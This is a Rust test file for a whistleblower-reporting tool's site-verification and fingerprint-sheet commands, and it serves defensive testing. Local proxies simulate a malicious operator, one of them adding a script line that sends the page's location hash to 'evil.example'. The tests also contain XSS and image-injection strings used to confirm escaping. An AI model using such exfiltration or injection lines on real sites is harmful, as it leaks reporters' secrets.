//! `meldkluis verify-site` against a real server: the genuine site passes;
//! a site whose operator changed one byte of one script fails, naming it.

mod common;

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::process::Command;

use common::{Server, make_vault};
use meldkluis::server::handlers::pages::{Encoding, Site};

fn verify(url: &str) -> (bool, String) {
    let output = Command::new(env!("CARGO_BIN_EXE_meldkluis"))
        .args(["verify-site", url])
        .output()
        .unwrap();
    (
        output.status.success(),
        String::from_utf8_lossy(&output.stdout).into_owned()
            + &String::from_utf8_lossy(&output.stderr),
    )
}

/// A "malicious operator": a proxy in front of the real server that flips
/// one byte of /js/report.js.
fn tampering_proxy(upstream: u16) -> u16 {
    proxy(upstream, false, |path, response| {
        if path == "/js/report.js" {
            let body_start = response.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4;
            let at = body_start + (response.len() - body_start) / 2;
            response[at] ^= 0x01;
        }
    })
}

/// An operator who leaves the root alone and changes the script only under
/// one organisation's prefix, where that organisation's melders load it.
fn organisation_tampering_proxy(upstream: u16) -> u16 {
    proxy(upstream, false, |path, response| {
        if path == "/o/ministerie-van-testzaken/js/report.js" {
            let body_start = response.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4;
            let at = body_start + (response.len() - body_start) / 2;
            response[at] ^= 0x01;
        }
    })
}

/// A subtler operator: the plain file is genuine, but what a browser gets
/// (brotli) decodes to a changed script — valid brotli, other bytes.
fn brotli_tampering_proxy(upstream: u16) -> u16 {
    proxy(upstream, true, |path, response| {
        let head_end = response.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4;
        let head = String::from_utf8_lossy(&response[..head_end]).to_ascii_lowercase();
        if path != "/js/report.js" || !head.contains("content-encoding: br") {
            return;
        }
        let mut script = Encoding::Brotli
            .decode(&response[head_end..], 1 << 24)
            .unwrap();
        script.extend_from_slice(b"\nfetch('https://evil.example/'+location.hash);\n");
        let body = Encoding::Brotli.encode(&script, false);
        let head: String = String::from_utf8_lossy(&response[..head_end])
            .lines()
            .filter(|l| !l.to_ascii_lowercase().starts_with("content-length"))
            .filter(|l| !l.is_empty())
            .map(|l| format!("{l}\r\n"))
            .collect();
        *response = format!("{head}content-length: {}\r\n\r\n", body.len()).into_bytes();
        response.extend_from_slice(&body);
    })
}

/// A proxy that hands each answer to `tamper` before passing it on;
/// `forward_encoding` passes the client's `Accept-Encoding` upstream.
fn proxy(upstream: u16, forward_encoding: bool, tamper: fn(&str, &mut Vec<u8>)) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for client in listener.incoming() {
            let Ok(mut client) = client else { continue };
            std::thread::spawn(move || {
                let Some(head) = request_head(&mut client) else {
                    return;
                };
                let path = head.split(' ').nth(1).unwrap_or("/").to_string();
                let accept = head
                    .lines()
                    .find(|l| l.to_ascii_lowercase().starts_with("accept-encoding:"))
                    .filter(|_| forward_encoding)
                    .map(|l| format!("{l}\r\n"))
                    .unwrap_or_default();
                let mut server = TcpStream::connect(("127.0.0.1", upstream)).unwrap();
                server
                    .write_all(
                        format!(
                            "GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n{accept}\r\n"
                        )
                        .as_bytes(),
                    )
                    .unwrap();
                let mut response = Vec::new();
                server.read_to_end(&mut response).unwrap();
                tamper(&path, &mut response);
                let _ = client.write_all(&response);
            });
        }
    });
    port
}

#[test]
fn genuine_site_passes_and_a_changed_script_is_named() {
    let dir = tempfile::tempdir().unwrap();
    let vault = make_vault(dir.path(), "vp-a");
    let server = Server::start_with_cards(&[("vp-a", vault.card.to_json())]);

    let (ok, output) = verify(&server.base);
    assert!(ok, "{output}");
    assert!(output.contains("all identical to this build"), "{output}");
    assert!(output.contains("ok       /vendor/age.js"));
    assert!(output.contains("ok       /melden"));
    // Every page and file of every organisation is checked too.
    assert!(
        output.contains("ok       /o/ministerie-van-testzaken/melden"),
        "{output}"
    );
    assert!(
        output.contains("ok       /o/ministerie-van-testzaken/js/report.js"),
        "{output}"
    );

    let proxy = tampering_proxy(server.port);
    let (ok, output) = verify(&format!("http://127.0.0.1:{proxy}"));
    assert!(!ok);
    let differing: Vec<&str> = output
        .lines()
        .filter(|l| l.starts_with("DIFFERS"))
        .collect();
    assert_eq!(differing.len(), 1, "{output}");
    assert!(differing[0].contains("/js/report.js"));
    assert!(output.contains("1 of"), "{output}");

    let proxy = brotli_tampering_proxy(server.port);
    let (ok, output) = verify(&format!("http://127.0.0.1:{proxy}"));
    assert!(!ok, "{output}");
    let differing: Vec<&str> = output
        .lines()
        .filter(|l| l.starts_with("DIFFERS"))
        .collect();
    assert_eq!(differing.len(), 1, "{output}");
    assert!(differing[0].contains("/js/report.js"), "{output}");
    assert!(differing[0].contains("asked for br"), "{output}");

    // Changed only under one organisation's prefix: named.
    let proxy = organisation_tampering_proxy(server.port);
    let (ok, output) = verify(&format!("http://127.0.0.1:{proxy}"));
    assert!(!ok, "{output}");
    let differing: Vec<&str> = output
        .lines()
        .filter(|l| l.starts_with("DIFFERS"))
        .collect();
    assert_eq!(differing.len(), 1, "{output}");
    assert!(
        differing[0].contains("/o/ministerie-van-testzaken/js/report.js"),
        "{output}"
    );

    // Plain HTTP to anything but this machine is refused: it proves nothing.
    let (ok, output) = verify("http://meldpunt.example.nl");
    assert!(!ok);
    assert!(output.contains("https://"), "{output}");
}

#[test]
fn site_manifest_lists_every_served_file() {
    let output = Command::new(env!("CARGO_BIN_EXE_meldkluis"))
        .arg("site-manifest")
        .output()
        .unwrap();
    assert!(output.status.success());
    let text = String::from_utf8(output.stdout).unwrap();
    for path in [
        "/",
        "/melden",
        "/en/report",
        "/vendor/age.js",
        "/js/protocol.js",
        "/css/site.css",
    ] {
        assert!(
            text.lines()
                .any(|l| l.ends_with(&format!("  {path}")) && l.len() == 64 + 2 + path.len()),
            "{path}"
        );
    }
}

/// Static files come compressed in the coding the browser accepts and
/// decode to exactly the bytes whose hashes the pages name; answers of the
/// API stay uncompressed; nothing is cached.
#[test]
fn static_files_are_served_compressed_and_decode_to_the_hashed_bytes() {
    let dir = tempfile::tempdir().unwrap();
    let vault = common::make_vault_in_org(dir.path(), "vp-a", Some("bzk"));
    let server = Server::start_with_cards(&[("vp-a", vault.card.to_json())]);
    let site = Site::build().unwrap();
    let genuine: std::collections::BTreeMap<&str, &[u8]> = site.files().collect();

    for (accept, expected) in [
        (Some("gzip, deflate, br, zstd"), Some("br")),
        (Some("gzip"), Some("gzip")),
        (Some("br;q=0, gzip;q=1"), Some("gzip")),
        (Some("identity"), None),
        (None, None),
    ] {
        for path in [
            "/vendor/age.js",
            "/css/site.css",
            "/i18n/nl.json",
            "/melden",
            "/en/my-report",
        ] {
            let headers: Vec<(&str, &str)> =
                accept.map(|a| ("Accept-Encoding", a)).into_iter().collect();
            let answer = server.request_with("GET", path, &headers, b"");
            assert_eq!(answer.status, 200, "{path}");
            assert_eq!(
                answer.header("content-encoding"),
                expected,
                "{path} {accept:?}"
            );
            assert_eq!(answer.header("cache-control"), Some("no-store"), "{path}");
            assert_eq!(answer.header("vary"), Some("accept-encoding"), "{path}");
            let coding = match expected {
                Some("br") => Encoding::Brotli,
                Some("gzip") => Encoding::Gzip,
                _ => Encoding::Identity,
            };
            let decoded = coding.decode(&answer.body, 1 << 24).unwrap();
            assert_eq!(decoded, genuine[path], "{path} {accept:?}");
            if expected.is_some() && path == "/vendor/age.js" {
                assert!(
                    answer.body.len() * 3 < decoded.len(),
                    "{}",
                    answer.body.len()
                );
            }
        }
    }

    // A page under an organisation's prefix is compressed per request.
    let answer = server.request_with("GET", "/o/bzk/melden", &[("Accept-Encoding", "br")], b"");
    assert_eq!(answer.status, 200);
    assert_eq!(answer.header("content-encoding"), Some("br"));
    let page = String::from_utf8(Encoding::Brotli.decode(&answer.body, 1 << 24).unwrap()).unwrap();
    assert!(page.contains("src=\"/o/bzk/js/report.js\""), "{page}");
    let answer = server.request_with("GET", "/o/nobody/melden", &[("Accept-Encoding", "br")], b"");
    assert_eq!(answer.status, 404);

    // The API answers as it is, whatever the browser accepts.
    for path in ["/api/v1/counsellors", "/api/v1/limits", "/api/v1/pow"] {
        let answer = server.request_with("GET", path, &[("Accept-Encoding", "gzip, br")], b"");
        assert_eq!(answer.status, 200, "{path}");
        assert_eq!(answer.header("content-encoding"), None, "{path}");
        assert_eq!(answer.header("cache-control"), Some("no-store"), "{path}");
        answer.json();
    }
    // The icon (svg, text) too; HEAD names the same coding with no body.
    let answer = server.request_with("HEAD", "/vendor/age.js", &[("Accept-Encoding", "br")], b"");
    assert_eq!(answer.status, 200);
    assert_eq!(answer.header("content-encoding"), Some("br"));
    assert!(answer.body.is_empty());
}

fn verify_cards(url: &str, cards: &std::path::Path) -> (bool, String) {
    let output = Command::new(env!("CARGO_BIN_EXE_meldkluis"))
        .args(["verify-site", url, "--cards"])
        .arg(cards)
        .output()
        .unwrap();
    (
        output.status.success(),
        String::from_utf8_lossy(&output.stdout).into_owned()
            + &String::from_utf8_lossy(&output.stderr),
    )
}

/// The operator changes a card in keys/ and the server reloads it (SIGHUP);
/// waits until the API serves the change.
fn operator_replaces_card(server: &Server, card: &meldkluis::format::card::Card) {
    std::fs::write(
        server.dir.path().join(format!("keys/{}.json", card.id)),
        card.to_json(),
    )
    .unwrap();
    server.signal("HUP");
    let org = card.org_id();
    for _ in 0..100 {
        let list = server.get(&format!("/api/v1/counsellors?org={org}")).json();
        let served = list["counsellors"]
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["id"] == card.id.as_str())
            .cloned()
            .unwrap();
        if served["age_recipient"] == card.age_recipient.as_str()
            && served["name"] == card.name.as_str()
        {
            return;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    panic!("the server did not reload {}", card.id);
}

/// `verify-site --cards`: every organisation's served counsellors must be
/// exactly the published cards. A swapped `age_recipient` (the key
/// substitution of issue 13: the operator keeps the signing key so syncs
/// still work) fails naming the counsellor and the field, as do a renamed
/// counsellor, a published one not served and a served one not published.
#[test]
fn published_cards_are_compared_with_every_organisation() {
    let dir = tempfile::tempdir().unwrap();
    let a = common::make_vault_in_org(&dir.path().join("a"), "vp-a", Some("bzk"));
    let b = common::make_vault_in_org(&dir.path().join("b"), "vp-b", Some("bzk"));
    let c = common::make_vault_in_org(&dir.path().join("c"), "vp-c", Some("jenv"));
    let operator = make_vault(&dir.path().join("operator"), "vp-operator");
    let server = Server::start_with_cards(&[
        ("vp-a", a.card.to_json()),
        ("vp-b", b.card.to_json()),
        ("vp-c", c.card.to_json()),
    ]);
    let publish = |name: &str, cards: &[&meldkluis::format::card::Card]| {
        let path = dir.path().join(name);
        std::fs::write(&path, serde_json::to_string_pretty(cards).unwrap()).unwrap();
        path
    };
    let published = publish("published.json", &[&a.card, &b.card, &c.card]);

    // The genuine site passes, as a JSON array and as a directory of cards.
    let (ok, output) = verify_cards(&server.base, &published);
    assert!(ok, "{output}");
    assert!(output.contains("all identical to this build"), "{output}");
    assert!(
        output.contains(&format!(
            "ok       card vp-a (bzk)  {}",
            a.card.fingerprint()
        )),
        "{output}"
    );
    assert!(output.contains("ok       card vp-c (jenv)"), "{output}");
    assert!(
        output.contains("3 card(s): every organisation serves exactly the published cards"),
        "{output}"
    );
    let (ok, output) = verify_cards(&server.base, &server.dir.path().join("keys"));
    assert!(ok, "{output}");

    // A published card that is not served, and a served one not published.
    let stranger = make_vault(&dir.path().join("stranger"), "vp-stranger");
    let (ok, output) = verify_cards(
        &server.base,
        &publish("other.json", &[&a.card, &c.card, &stranger.card]),
    );
    assert!(!ok, "{output}");
    assert!(
        output.contains("MISSING  card vp-stranger (ministerie-van-testzaken): published"),
        "{output}"
    );
    assert!(
        output.contains("EXTRA    card vp-b (bzk): served"),
        "{output}"
    );
    assert!(output.contains("2 counsellor card(s) differ"), "{output}");

    // The operator swaps vp-a's age_recipient for one of its own, keeping
    // the signing key, and reloads: named, with the field.
    let mut swapped = a.card.clone();
    swapped.age_recipient = operator.card.age_recipient.clone();
    operator_replaces_card(&server, &swapped);
    let (ok, output) = verify_cards(&server.base, &published);
    assert!(!ok, "{output}");
    let differing: Vec<&str> = output
        .lines()
        .filter(|l| l.starts_with("DIFFERS"))
        .collect();
    assert_eq!(differing.len(), 1, "{output}");
    assert!(
        differing[0].contains("card vp-a (bzk): age_recipient differs from the published card"),
        "{output}"
    );
    assert!(differing[0].contains(&a.card.fingerprint()), "{output}");
    assert!(differing[0].contains(&swapped.fingerprint()), "{output}");
    assert!(output.contains("ok       card vp-b (bzk)"), "{output}");
    // The pages and scripts are still genuine: only --cards sees this.
    assert!(output.contains("all identical to this build"), "{output}");
    assert!(verify(&server.base).0);

    // A renamed counsellor.
    let mut renamed = a.card.clone();
    renamed.name = "Mr. Een Ander".into();
    operator_replaces_card(&server, &renamed);
    let (ok, output) = verify_cards(&server.base, &published);
    assert!(!ok, "{output}");
    assert!(
        output.contains("DIFFERS  card vp-a (bzk): name differs from the published card"),
        "{output}"
    );

    // A published file that is no card list stops before any request.
    for (name, content) in [
        ("broken.json", "{ nope".to_string()),
        ("object.json", a.card.to_json()),
        ("empty.json", "[]".to_string()),
        (
            "twice.json",
            serde_json::to_string(&[&a.card, &a.card]).unwrap(),
        ),
        (
            "bad-card.json",
            serde_json::to_string(&[&a.card])
                .unwrap()
                .replace("age1", "age2"),
        ),
    ] {
        let path = dir.path().join(name);
        std::fs::write(&path, content).unwrap();
        let (ok, output) = verify_cards(&server.base, &path);
        assert!(!ok, "{name}: {output}");
        assert!(
            output.contains("the published cards in"),
            "{name}: {output}"
        );
        assert!(!output.contains("ok       /"), "{name}: {output}");
    }
}

/// Every request verify-site makes carries Firefox ESR's User-Agent and
/// Accept headers: nothing names a tool an operator could single out.
#[test]
fn verify_site_looks_like_a_browser() {
    let dir = tempfile::tempdir().unwrap();
    let vault = common::make_vault_in_org(dir.path(), "vp-a", Some("bzk"));
    let server = Server::start_with_cards(&[("vp-a", vault.card.to_json())]);
    let published = dir.path().join("published.json");
    std::fs::write(&published, serde_json::to_string(&[&vault.card]).unwrap()).unwrap();

    let heads = std::sync::Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let upstream = server.port;
    let recorded = heads.clone();
    std::thread::spawn(move || {
        for client in listener.incoming() {
            let Ok(mut client) = client else { continue };
            let recorded = recorded.clone();
            std::thread::spawn(move || {
                let Some(head) = request_head(&mut client) else {
                    return;
                };
                recorded.lock().unwrap().push(head.clone());
                // Passed on as it came, but closing after one answer.
                let forwarded: String = head
                    .lines()
                    .filter(|l| !l.to_ascii_lowercase().starts_with("connection:"))
                    .filter(|l| !l.is_empty())
                    .map(|l| format!("{l}\r\n"))
                    .collect();
                let mut server = TcpStream::connect(("127.0.0.1", upstream)).unwrap();
                server
                    .write_all(format!("{forwarded}Connection: close\r\n\r\n").as_bytes())
                    .unwrap();
                let mut response = Vec::new();
                server.read_to_end(&mut response).unwrap();
                let _ = client.write_all(&response);
            });
        }
    });

    let (ok, output) = verify_cards(&format!("http://127.0.0.1:{port}"), &published);
    assert!(ok, "{output}");
    let heads = heads.lock().unwrap();
    assert!(heads.len() > 100, "{}", heads.len());
    let api = heads
        .iter()
        .filter(|h| h.starts_with("GET /api/v1/counsellors?org=bzk "))
        .count();
    assert_eq!(api, 1, "the counsellor list of every organisation");
    for head in heads.iter() {
        let lower = head.to_ascii_lowercase();
        assert!(
            lower.contains(
                "\r\nuser-agent: mozilla/5.0 (windows nt 10.0; win64; x64; rv:153.0) gecko/20100101 firefox/153.0\r\n"
            ),
            "{head}"
        );
        assert_eq!(lower.matches("\r\nuser-agent:").count(), 1, "{head}");
        assert!(lower.contains("\r\naccept: "), "{head}");
        assert!(
            lower.contains("\r\naccept-language: en-us,en;q=0.5\r\n"),
            "{head}"
        );
        for tool in ["ureq", "meldkluis", "rust", "curl"] {
            assert!(!lower.contains(tool), "{tool}: {head}");
        }
    }
    let page = heads
        .iter()
        .find(|h| h.starts_with("GET /melden "))
        .unwrap();
    assert!(
        page.to_ascii_lowercase()
            .contains("accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        "{page}"
    );
    assert!(
        heads.iter().any(|h| h
            .to_ascii_lowercase()
            .contains("accept-encoding: gzip, deflate, br, zstd")),
        "what Firefox asks for is what is checked"
    );
}

/// `meldkluis fingerprint-sheet`: a self-contained page per organisation
/// with each counsellor's fingerprint, card text escaped; Dutch by default,
/// English with --lang en; an unknown --org writes nothing.
#[test]
fn fingerprint_sheet_prints_every_counsellor_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let keys = dir.path().join("keys");
    std::fs::create_dir_all(&keys).unwrap();
    let mut hostile = common::make_vault_in_org(&dir.path().join("a"), "vp-a", Some("bzk")).card;
    hostile.name = "<script>alert('x')</script> & \"Jansen\"".into();
    hostile.organisation = "<img src=https://evil.example/x>".into();
    let other = common::make_vault_in_org(&dir.path().join("b"), "vp-b", Some("jenv")).card;
    std::fs::write(keys.join("vp-a.json"), hostile.to_json()).unwrap();
    std::fs::write(keys.join("vp-b.json"), other.to_json()).unwrap();
    let sheet = |args: &[&str]| {
        let output = Command::new(env!("CARGO_BIN_EXE_meldkluis"))
            .current_dir(dir.path())
            .args(["fingerprint-sheet", "--keys", "keys"])
            .args(args)
            .output()
            .unwrap();
        (
            output.status.success(),
            String::from_utf8_lossy(&output.stdout).into_owned()
                + &String::from_utf8_lossy(&output.stderr),
        )
    };

    let (ok, output) = sheet(&["--out", "sheet.html"]);
    assert!(ok, "{output}");
    assert!(output.contains(&hostile.fingerprint()), "{output}");
    let html = std::fs::read_to_string(dir.path().join("sheet.html")).unwrap();
    assert!(
        html.starts_with("<!doctype html>\n<html lang=\"nl\">"),
        "{html}"
    );
    assert!(
        html.contains("Vingerafdrukken van de vertrouwenspersonen"),
        "{html}"
    );
    assert!(html.contains("Vergelijk"), "{html}");
    assert_eq!(html.matches("<section>").count(), 2);
    for card in [&hostile, &other] {
        let groups: Vec<String> = card
            .fingerprint()
            .split(' ')
            .map(|g| format!("<span>{g}</span>"))
            .collect();
        assert!(html.contains(&groups.join(" ")), "{html}");
    }
    assert!(
        html.contains("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &amp; &quot;Jansen&quot;"),
        "{html}"
    );
    // The hostile organisation is there as text only; nothing else loads.
    let escaped = "&lt;img src=https://evil.example/x&gt;";
    assert!(html.contains(escaped), "{html}");
    let rest = html.replace(escaped, "");
    for bad in ["<script", "<img", "src=", "href=", "https:", "url("] {
        assert!(!rest.contains(bad), "{bad}: {html}");
    }

    let (ok, output) = sheet(&["--out", "sheet-en.html", "--lang", "en", "--org", "jenv"]);
    assert!(ok, "{output}");
    let html = std::fs::read_to_string(dir.path().join("sheet-en.html")).unwrap();
    assert!(html.contains("<html lang=\"en\">"), "{html}");
    assert!(
        html.contains("Fingerprints of the confidential counsellors"),
        "{html}"
    );
    assert!(html.contains(&other.fingerprint().split(' ').next().unwrap().to_string()));
    assert!(!html.contains("Jansen"), "{html}");

    let (ok, output) = sheet(&["--out", "none.html", "--org", "nope"]);
    assert!(!ok);
    assert!(
        output.contains("no card serves the organisation \"nope\""),
        "{output}"
    );
    assert!(!dir.path().join("none.html").exists());
}

/// Reads an HTTP request up to the end of its head; `None` when the client
/// went away first.
fn request_head(client: &mut std::net::TcpStream) -> Option<String> {
    use std::io::Read;
    let mut request = Vec::new();
    let mut buffer = [0u8; 4096];
    while !request.windows(4).any(|w| w == b"\r\n\r\n") {
        match client.read(&mut buffer) {
            Ok(0) | Err(_) => return None,
            Ok(n) => request.extend_from_slice(&buffer[..n]),
        }
    }
    Some(String::from_utf8_lossy(&request).into_owned())
}
